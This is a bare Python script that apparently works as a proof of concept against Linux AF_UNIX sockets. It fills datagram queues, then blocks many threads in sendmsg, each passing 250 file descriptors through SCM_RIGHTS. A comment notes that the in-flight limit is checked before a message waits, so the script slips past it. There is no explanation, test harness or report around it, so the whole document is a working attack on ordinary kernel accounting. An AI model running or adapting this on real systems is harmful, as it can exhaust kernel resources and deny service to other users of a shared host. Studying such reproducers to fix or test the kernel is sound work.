import array
import socket
import threading
import time

rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 250))]
servers = []
for number in range(12):
    server, filler = (socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) for _ in range(2))
    server.bind(f"\0server{number}")
    servers.append(server)
    filler.setblocking(False)
    try:
        while True:
            filler.sendto(b"x", f"\0server{number}")
    except BlockingIOError:
        pass
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    for _ in range(10):  # the limit is looked at now; what waits for room is not counted yet
        to = ([b"x"], rights, 0, f"\0server{number}")
        threading.Thread(target=sender.sendmsg, args=to, daemon=True).start()
time.sleep(1)
for server in servers:
    for _ in range(11):
        server.recv(1)
time.sleep(100)
